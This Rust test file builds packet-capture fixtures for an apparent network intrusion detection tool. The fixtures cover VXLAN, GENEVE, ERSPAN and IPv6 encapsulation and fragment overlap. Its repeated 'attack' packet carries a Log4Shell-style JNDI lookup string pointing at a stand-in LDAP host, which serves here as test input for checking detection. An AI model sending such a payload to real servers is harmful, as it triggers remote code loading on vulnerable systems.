//! Builds the captures under tests/data/ (run with `cargo test --test
//! build_fixtures -- --ignored`; the outputs are committed). Each case is a
//! suricata-verify style folder: input.pcap, test.rules, test.yaml with the
//! expected alerts; `tests/cli.rs` runs them through `mirrorids verify`.

use std::net::IpAddr;
use std::path::Path;

use mirrorids::gen::frames::{self, TcpSpec};
use mirrorids::gen::pcap_writer::PcapWriter;
use mirrorids::source::LinkType;
use mirrorids::util::Timestamp;

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn write(case: &str, file: &str, frames: &[Vec<u8>]) {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data").join(case);
    std::fs::create_dir_all(&dir).unwrap();
    let f = std::fs::File::create(dir.join(file)).unwrap();
    let mut w = PcapWriter::new(f, LinkType::ETHERNET, 65535).unwrap();
    for (i, fr) in frames.iter().enumerate() {
        w.write_packet(Timestamp::from_secs_micros(1_711_929_600 + i as u64, 0), fr, fr.len() as u32).unwrap();
    }
}

fn seg(src: &str, dst: &str, sport: u16, dport: u16, seq: u32, payload: &[u8]) -> Vec<u8> {
    frames::tcp(ip(src), ip(dst), TcpSpec { sport, dport, seq, ack: 1, flags: 0x18, window: 1024 }, payload)
}

fn vx(inner: &[u8], vni: u32, eni: &str) -> Vec<u8> {
    frames::vxlan(inner, vni, ip(eni), ip("10.99.0.5"), 50_000)
}

#[test]
#[ignore]
fn build() {
    // Identical inner 5-tuples in two mirror sessions and from two ENIs.
    let c = "198.18.0.7";
    let s = "10.0.1.10";
    write(
        "vxlan-vni-separation",
        "input.pcap",
        &[
            vx(&seg(c, s, 40000, 8080, 100, b"LOGIN admin\r\n"), 100, s),
            vx(&seg(c, s, 40000, 8080, 100, b"SECRET data\r\n"), 200, s),
            vx(&seg(c, s, 40000, 8080, 100, b"SECRET data\r\n"), 100, "10.0.9.10"),
            vx(&seg(c, s, 40000, 8080, 113, b"SECRET data\r\n"), 100, s),
        ],
    );

    // A 9001-byte jumbo segment cut to the 8947 bytes AWS mirrors whole.
    let mut body = vec![b'.'; 9001 - 40];
    body[100..110].copy_from_slice(b"EARLY-MARK");
    body[8950..8960].copy_from_slice(b"LATE--MARK");
    let jumbo = seg(c, s, 40001, 80, 1, &body);
    write("vxlan-truncated-jumbo", "input.pcap", &[vx(&jumbo[..14 + 8947], 300, s)]);

    // The same attack seen on the source (plain) and on the sensor (VXLAN).
    let attack = seg(c, s, 40002, 80, 1, b"GET /?q=${jndi:ldap://203.0.113.66/a} HTTP/1.1\r\n\r\n");
    write("source-and-sensor-views", "plain.pcap", std::slice::from_ref(&attack));
    write("source-and-sensor-views", "sensor.pcap", &[vx(&attack, 400, s)]);

    // Gateway Load Balancer: GENEVE with AWS options, an IPv4 packet inside
    // carrying the VXLAN mirror copy.
    let inner_vx = vx(&attack, 500, s);
    let mut geneve = vec![0x08, 0x00, 0x08, 0x00, 0, 0, 0, 0];
    geneve.extend_from_slice(&[0x01, 0x08, 0x01, 0x02]);
    geneve.extend_from_slice(&0x0a0b_0c0d_0e0f_1011u64.to_be_bytes());
    geneve.extend_from_slice(&[0x01, 0x08, 0x02, 0x02]);
    geneve.extend_from_slice(&0x1122_3344_5566_7788u64.to_be_bytes());
    geneve.extend_from_slice(&[0x01, 0x08, 0x03, 0x01]);
    geneve.extend_from_slice(&0xcafe_f00du32.to_be_bytes());
    geneve.extend_from_slice(&inner_vx[14..]);
    write("gwlb-geneve", "input.pcap", &[frames::udp(ip("10.0.7.7"), ip("10.99.0.5"), 41000, 6081, &geneve)]);

    // Mirror copies delivered over IPv6.
    write(
        "ipv6-outer-vxlan",
        "input.pcap",
        &[frames::vxlan(&attack, 600, ip("2600:1f18::10"), ip("2600:1f18::5"), 50001)],
    );

    // An inner UDP datagram in two overlapping fragments inside VXLAN: the
    // second fragment's overlap must not replace the first's bytes (BSD).
    let dgram = frames::udp(ip(c), ip(s), 5000, 9999, b"HEADER-EVIL-PAYLOAD-0123456789");
    let ip_hdr = &dgram[14..34];
    let data = &dgram[34..];
    let frag = |off: usize, bytes: &[u8], more: bool| {
        let mut f = dgram[..14].to_vec();
        let mut h = ip_hdr.to_vec();
        h[2..4].copy_from_slice(&((20 + bytes.len()) as u16).to_be_bytes());
        h[4..6].copy_from_slice(&0x4242u16.to_be_bytes());
        let fo = (off / 8) as u16 | if more { 0x2000 } else { 0 };
        h[6..8].copy_from_slice(&fo.to_be_bytes());
        f.extend_from_slice(&h);
        f.extend_from_slice(bytes);
        vx(&f, 700, s)
    };
    let mut overlap = data[16..].to_vec();
    overlap[0..6].copy_from_slice(b"XXXXXX");
    write("vxlan-inner-fragments", "input.pcap", &[frag(0, &data[..24], true), frag(16, &overlap, false)]);

    // ERSPAN type II (GRE 0x88be) carrying an 802.1Q-tagged frame.
    let mut tagged = attack[..12].to_vec();
    tagged.extend_from_slice(&[0x81, 0x00, 0x00, 0x2a]);
    tagged.extend_from_slice(&attack[12..]);
    let mut gre = vec![0x10, 0x00, 0x88, 0xbe, 0, 0, 0, 1];
    gre.extend_from_slice(&[0x10, 0x2a, 0x00, 0x05, 0, 0, 0, 0]);
    gre.extend_from_slice(&tagged);
    let mut outer = frames::udp(ip("10.0.8.8"), ip("10.99.0.5"), 1, 2, &[]);
    outer.truncate(34);
    outer[23] = 47;
    let total = (20 + gre.len()) as u16;
    outer[16..18].copy_from_slice(&total.to_be_bytes());
    outer.extend_from_slice(&gre);
    write("erspan-vlan", "input.pcap", &[outer]);
}
